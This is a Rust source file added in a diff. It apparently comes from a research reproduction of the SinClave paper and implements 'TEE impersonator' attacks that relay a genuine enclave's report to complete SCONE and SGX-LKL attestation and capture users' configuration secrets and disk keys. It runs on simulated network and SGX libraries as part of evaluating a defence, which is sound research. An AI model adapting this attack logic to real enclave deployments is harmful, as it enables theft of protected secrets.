@@ -1,0 +1,183 @@
+//! The TEE impersonators — ordinary host code that completes
+//! attestation protocols using a remote report server (§3.3.1's
+//! "75 lines of code" CAS client, §3.3.2's SGX-LKL protocol server).
+
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+use sinclave::protocol::Message;
+use sinclave::AppConfig;
+use sinclave::AttestationToken;
+use sinclave_crypto::rsa::RsaPrivateKey;
+use sinclave_net::{Network, SecureChannel};
+use sinclave_runtime::RuntimeError;
+use sinclave_sgx::quote::QuotingEnclave;
+use sinclave_sgx::report::Report;
+use std::sync::Arc;
+use std::thread::JoinHandle;
+use std::time::Duration;
+
+/// Asks the report server at `addr` for a report over `reportdata`.
+///
+/// # Errors
+///
+/// Propagates connectivity failures; retries while the victim enclave
+/// is still starting up.
+pub fn fetch_report(
+    network: &Network,
+    addr: &str,
+    reportdata: &[u8],
+) -> Result<Report, RuntimeError> {
+    // The victim enclave binds its listener only after its own (fake)
+    // attestation completes; retry briefly.
+    let mut attempts = 0;
+    let conn = loop {
+        match network.connect(addr) {
+            Ok(conn) => break conn,
+            Err(e) if attempts > 100 => return Err(e.into()),
+            Err(_) => {
+                attempts += 1;
+                std::thread::sleep(Duration::from_millis(20));
+            }
+        }
+    };
+    conn.send(reportdata.to_vec())?;
+    let raw = conn.recv()?;
+    Ok(Report::from_bytes(&raw)?)
+}
+
+/// The SCONE-flavored TEE impersonator: completes the CAS attestation
+/// protocol for `config_id`, delegating report generation to the
+/// report server. On success the verifier's configuration — the
+/// user's secrets — is returned to the adversary.
+///
+/// `qe` is the platform's quoting enclave: quoting is a host-available
+/// system service (aesmd in real deployments), so the adversary may
+/// use it directly.
+///
+/// # Errors
+///
+/// Returns the verifier's denial (the SinClave case) or protocol
+/// failures.
+pub fn scone_impersonate(
+    network: &Network,
+    cas_addr: &str,
+    config_id: &str,
+    report_server_addr: &str,
+    qe: &Arc<QuotingEnclave>,
+    token: Option<AttestationToken>,
+    seed: u64,
+) -> Result<AppConfig, RuntimeError> {
+    let mut rng = StdRng::seed_from_u64(seed);
+    let conn = network.connect(cas_addr)?;
+    let mut chan = SecureChannel::client_connect(conn, &mut rng)?;
+
+    chan.send(&Message::ChallengeRequest.to_bytes())?;
+    let Message::Challenge { nonce } = Message::from_bytes(&chan.recv()?)? else {
+        return Err(RuntimeError::ProtocolViolation { context: "challenge" });
+    };
+
+    // The crucial move: have the *genuine* enclave bind the
+    // *impersonator's* channel into a report (§3.3.1: "incorporate the
+    // TEE impersonator's certificate key into the report's reportdata
+    // field, undermining the channel's authenticity").
+    let binding = chan.transcript();
+    let report = fetch_report(network, report_server_addr, binding.as_bytes())?;
+    let quote = qe.quote(&report, nonce)?;
+
+    let request = match token {
+        Some(token) => Message::AttestRequest {
+            quote: quote.to_bytes(),
+            token,
+            config_id: config_id.to_owned(),
+        },
+        None => Message::BaselineAttestRequest {
+            quote: quote.to_bytes(),
+            config_id: config_id.to_owned(),
+        },
+    };
+    chan.send(&request.to_bytes())?;
+    match Message::from_bytes(&chan.recv()?)? {
+        Message::ConfigResponse { config } => Ok(AppConfig::from_bytes(&config)?),
+        Message::Denied { reason } => Err(RuntimeError::AttestationDenied { reason }),
+        _ => Err(RuntimeError::ProtocolViolation { context: "attest reply" }),
+    }
+}
+
+/// The SGX-LKL-flavored impersonator (§3.3.2): a *server* that
+/// occupies the enclave's service address. When the user's controller
+/// connects, it relays the challenge to the report server, quotes the
+/// result and — if the user falls for it — receives the configuration
+/// with the disk key.
+///
+/// Returns a handle resolving to the stolen configuration, if any.
+#[must_use]
+pub fn lkl_impersonate(
+    network: &Network,
+    service_addr: &str,
+    channel_key: RsaPrivateKey,
+    report_server_addr: &str,
+    qe: Arc<QuotingEnclave>,
+    seed: u64,
+) -> JoinHandle<Option<AppConfig>> {
+    let listener = network.listen(service_addr);
+    let network = network.clone();
+    let report_server_addr = report_server_addr.to_owned();
+    std::thread::spawn(move || {
+        let mut rng = StdRng::seed_from_u64(seed);
+        let conn = listener.accept().ok()?;
+        let mut chan = SecureChannel::server_accept(conn, &channel_key, &mut rng).ok()?;
+        let Message::Challenge { nonce } = Message::from_bytes(&chan.recv().ok()?).ok()? else {
+            return None;
+        };
+        // Bind the *impersonator's* channel into the report.
+        let binding = chan.transcript();
+        let report = fetch_report(&network, &report_server_addr, binding.as_bytes()).ok()?;
+        let quote = qe.quote(&report, nonce).ok()?;
+        chan.send(&Message::QuoteResponse { quote: quote.to_bytes() }.to_bytes()).ok()?;
+        // The user, convinced, sends the configuration (possibly after
+        // a VerifierAuth we happily swallow).
+        loop {
+            match Message::from_bytes(&chan.recv().ok()?).ok()? {
+                Message::ConfigResponse { config } => {
+                    return AppConfig::from_bytes(&config).ok();
+                }
+                Message::VerifierAuth { .. } => continue,
+                _ => return None,
+            }
+        }
+    })
+}
+
+/// Spins until `f` returns `Some`, with a deadline — test helper for
+/// racing against enclave startup.
+pub fn wait_for<T>(mut f: impl FnMut() -> Option<T>, deadline: Duration) -> Option<T> {
+    let start = std::time::Instant::now();
+    loop {
+        if let Some(v) = f() {
+            return Some(v);
+        }
+        if start.elapsed() > deadline {
+            return None;
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn fetch_report_times_out_cleanly() {
+        let network = Network::new();
+        let err = fetch_report(&network, "nowhere:1", &[0u8; 32]).unwrap_err();
+        assert!(matches!(err, RuntimeError::Net(_)));
+    }
+
+    #[test]
+    fn wait_for_deadline() {
+        assert_eq!(wait_for(|| Some(1), Duration::from_millis(10)), Some(1));
+        let none: Option<u32> = wait_for(|| None, Duration::from_millis(30));
+        assert_eq!(none, None);
+    }
+}
